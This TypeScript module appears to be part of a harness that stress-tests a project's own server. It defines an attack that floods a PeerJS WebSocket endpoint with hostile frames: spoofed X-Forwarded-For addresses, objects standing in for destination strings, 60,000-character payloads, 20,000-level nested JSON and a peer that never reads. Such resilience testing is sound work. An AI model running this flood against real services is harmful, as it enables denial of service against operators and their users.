import { once } from 'node:events';
import WebSocket from 'ws';
import { attackerAddress, type Attack } from '../attack';
import { register } from '../http';

const nested = (levels: number): string => '['.repeat(levels) + ']'.repeat(levels);
const frame = (dst: string, payload: string): string => `{"type":"OFFER","dst":${dst},"payload":${payload}}`;

/**
 * The frames of a peer: to a destination that is not a string, to itself without reading, to an unknown peer, and
 * deeply nested.
 */
const FRAMES = [
  frame('{"toString":1,"valueOf":1}', '1'),
  frame('"reader"', `"${'x'.repeat(60_000)}"`),
  frame('"nobody"', `"${'x'.repeat(60_000)}"`),
  frame('"reader"', nested(20_000)),
  '{"type":"LEAVE"}',
  'not JSON',
];

/** How many frames of a kind one connection sends before it is replaced by another one. */
const FRAMES_PER_CONNECTION = 500;

export const peers: Attack = {
  what: 'PeerJS connections, with and without an account, that flood the server with hostile frames',
  parallel: 12,
  async prepare(url) {
    const token = await register(url, 'caller', attackerAddress(0));
    const connect = (id: string, key: string, address: string): WebSocket => {
      const query = new URLSearchParams({ key: 'peerjs', id, token: key, version: '1.5.5' });
      const socket = new WebSocket(`${url.replace('http', 'ws')}/peerjs/peerjs?${query.toString()}`, {
        headers: { 'X-Forwarded-For': address },
      });
      socket.on('error', () => undefined);
      return socket;
    };
    // The receiver of half of the frames does not read.
    connect('reader', token, attackerAddress(0)).on('open', function () {
      this.pause();
    });
    return async (index) => {
      const isAnonymous = index % 4 === 0;
      const socket = connect(`peer${index}`, isAnonymous ? 'nothing' : token, attackerAddress(index));
      const closed = once(socket, 'close');
      await Promise.race([once(socket, 'open'), closed]);
      for (let each = 0; each < FRAMES_PER_CONNECTION && socket.readyState === WebSocket.OPEN; each++) {
        socket.send(FRAMES[index % FRAMES.length]!);
        // Frames that wait in the memory of the attacker would not be an attack.
        if (socket.bufferedAmount > 1024 * 1024) await new Promise((resolve) => setTimeout(resolve, 5));
      }
      socket.close();
      await closed;
    };
  },
};
